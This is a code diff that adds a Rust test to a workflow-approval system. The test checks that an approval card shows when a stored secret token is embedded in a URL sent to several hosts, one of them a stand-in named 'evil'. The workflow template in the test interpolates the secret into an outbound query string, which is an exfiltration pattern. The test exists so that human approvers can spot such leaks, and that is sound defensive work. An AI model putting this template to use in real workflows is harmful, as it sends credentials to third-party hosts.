@@ -64,6 +64,33 @@ async fn the_card_shows_exactly_what_is_consented_to() {
 }
 
 #[tokio::test]
+async fn the_card_of_every_call_shows_what_stands_beside_a_secret() {
+    let world = World::start().await;
+    let secret = world.admin.put("/api/v1/secrets/tok");
+    assert_eq!(secret.json(&json!({"value": "canary"})).await.status, 201);
+    let text = r#"
+workflow: sends
+inputs: { hosts: { type: array } }
+steps:
+  - id: send
+    for_each: inputs.hosts
+    uses: demo/change
+    with: { value: "https://${{ item }}/hook?t=${{ secrets.tok }}" }
+"#;
+    world.save(text).await;
+    let run = world.run("sends", json!({"hosts": ["a", "evil"]})).await;
+    let run = world.settled(&run).await;
+    assert_eq!(run["status"], "waiting", "{run}");
+    let list = world.engineer.get("/api/v1/approvals").await;
+    let items = &list.items()[0]["items"];
+    for (n, host) in ["a", "evil"].into_iter().enumerate() {
+        let expected = json!([{"pointer": "/value", "parts": [
+            {"text": format!("https://{host}/hook?t=")}, {"secret": {"name": "tok", "version": 1}}]}]);
+        assert_eq!(items[n]["secrets"], expected, "{items}");
+    }
+}
+
+#[tokio::test]
 async fn only_the_shown_digest_is_approved_and_only_once() {
     let world = World::start().await;
     let (run, approval) = asked(&world).await;
